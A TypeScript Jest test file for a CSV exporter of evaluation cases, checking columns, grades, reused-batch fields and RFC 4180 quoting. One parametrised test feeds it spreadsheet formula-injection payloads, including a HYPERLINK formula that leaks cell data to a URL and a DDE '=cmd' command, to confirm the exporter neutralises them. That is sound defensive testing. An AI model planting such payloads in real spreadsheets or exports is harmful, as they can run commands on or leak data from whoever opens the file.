import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { printCsv } from '../../../page/csv.ts';
import type { CaseRecord, PageCase } from '../../../src/core/page/case.ts';
import { createCasePrinter } from '../../../src/core/page/print-case.ts';
import { anyText } from '../../any-text.ts';
import { attacks } from './attacks.ts';
import { assertOf, gradedCases, gradedOf, gradeOf } from './graded-samples.ts';
import { type Changed, caseOf, said } from './samples.ts';

function recordOf(found: PageCase): CaseRecord {
  return JSON.parse(
    createCasePrinter('full')(found)
      .replace(/^<script[^>]*>/, '')
      .replace(/<\/script>\n$/, ''),
  );
}

const csvOf = (...changed: Changed[]): string =>
  printCsv(changed.map((one, position) => recordOf(caseOf(position, one))));

/** Reads it as RFC 4180 says. */
function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const cells = Array.from(csv.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy));
  expect(cells.map(([whole]) => whole).join('')).toBe(csv.slice(1));
  const lines: string[][] = [[]];
  for (const [, quoted, bare, end] of cells) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

const columnOf = (csv: string, name: string): string[] => {
  const [heads = [], ...lines] = parse(csv);
  return lines.map((cells) => cells[heads.indexOf(name)] ?? '');
};

describe('the CSV of cases', () => {
  test('has all of a case', () => {
    const [heads, line] = parse(
      csvOf({
        prompt: [said('system', 'Be "kind",\nplease'), said('user', 'What?')],
        answer: [
          said(undefined, 'That.'),
          { kind: 'tool-call', name: 'find', id: 't1', text: '{}' },
          { kind: 'thinking', text: 'Hm' },
        ],
      }),
    );
    expect(Object.fromEntries((heads ?? []).map((head, index) => [head, line?.[index]]))).toEqual({
      custom_id: 'case-0',
      file: 'evals/sums.jsonl',
      line: '1',
      outcome: 'succeeded',
      complete: 'true',
      stop_reason: 'end_turn',
      error_type: '',
      error_message: '',
      model: 'claude-haiku-5-5',
      input_tokens: '200',
      cache_read_tokens: '500',
      cache_write_tokens: '0',
      output_tokens: '100',
      cost_usd: '0.001000',
      prompt: '[system]\nBe "kind",\nplease\n\n[user]\nWhat?',
      answer: 'That.\n\n[tool-call find t1]\n{}',
    });
  });

  test('says of which batch a reused answer is, where any is', () => {
    const reused = { batch_id: 'msgbatch_9', answered_at: '2026-11-19T11:00:00.000Z', age_days: 3 };
    const [first, second] = gradedCases().map((found) => recordOf(found));
    const [heads = [], ...rows] = parse(printCsv([{ ...(first as CaseRecord), reused }, second as CaseRecord]));
    const cells = rows.map((row) => ['reused', 'reused_from', 'answered_at'].map((head) => row[heads.indexOf(head)]));
    expect(cells).toEqual([
      ['true', 'msgbatch_9', '2026-11-19T11:00:00.000Z'],
      ['false', '', ''],
    ]);
  });

  test('of graded cases has the grades', () => {
    const [broken, , , , errored, flaky] = gradedCases().map((found) => recordOf(found));
    const lines = [broken, errored, flaky].filter((found) => found !== undefined);
    const [heads = [], ...rows] = parse(printCsv(lines));
    const [first, second, third] = rows.map((cells) =>
      Object.fromEntries(heads.map((head, index) => [head, cells[index]])),
    );
    expect(first).toMatchObject({
      ...{ custom_id: 'refund-broken', case: 'refund-broken', case_pass: 'false', change: 'broken', required: 'true' },
      ...{ pass: 'false', score: '0.4', 'metric tone': '0.2', 'metric facts': '0.5', 'metadata topic': 'refunds' },
      reasons:
        'contains: did not find "14 days"\nllm-rubric (tone): The answer tells the customer to pay for the parcel, which the rubric forbids.',
    });
    expect(first?.['baseline_answer']).toMatch(/^Yes, .*14 days/);
    expect(second).toMatchObject({
      case_pass: '',
      pass: '',
      score: '',
      change: '',
      'metric facts': '',
      outcome: 'errored',
    });
    expect(third).toMatchObject({ custom_id: 'flaky-r1', case: 'flaky', case_pass: 'false', pass: 'true' });
  });

  test('names of metrics and metadata run no formula either', () => {
    const asserts = [assertOf({ metric: '=1+1' })];
    const grade = gradeOf('a', { asserts, case: { metadata: [['=2+2', '=3+3']] } });
    const [heads, line] = parse(printCsv([recordOf(gradedOf(0, grade))]));
    expect(heads).toEqual(expect.arrayContaining(['metric =1+1', 'metadata =2+2']));
    expect(line).toContain("'=3+3");
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    [' =1', "' =1"],
    ['\t=1', "'\t=1"],
    ['"=1', '\'"=1'],
    ['\u200B=1', "'\u200B=1"],
    ['\uFF1D1', "'\uFF1D1"],
    ['=HYPERLINK("https://example.com/?"&A1)', '\'=HYPERLINK("https://example.com/?"&A1)'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['-42', '-42'],
    ['-3.14', '-3.14'],
    ['42', '42'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('a spreadsheet runs no formula of %j', (text, cell) => {
    expect(columnOf(csvOf({ answer: text }), 'answer')).toEqual([cell]);
  });

  test.each(attacks)('%s: stays in its cell', (_, text) => {
    const changed = {
      id: text,
      model: text,
      stop_reason: text,
      answer: text,
      prompt: text,
      source: { file: text, line: 1 },
    };
    const lines = parse(csvOf(changed, {}));
    expect(lines.map(({ length }) => length)).toEqual(Array(3).fill(lines[0]?.length));
    for (const cell of lines.flat()) expect(cell).not.toMatch(/^\s*[=+@]/);
  });

  test('any text comes back as it was, but for what neutralises it', () => {
    fc.assert(
      fc.property(anyText(), (text) => {
        const [cell = ''] = columnOf(csvOf({ answer: text, prompt: null }), 'answer');
        const shown = recordOf(caseOf(0, { answer: text })).answer?.[0]?.text.head ?? '';
        expect([shown, `'${shown}`]).toContain(cell);
      }),
    );
  });
});
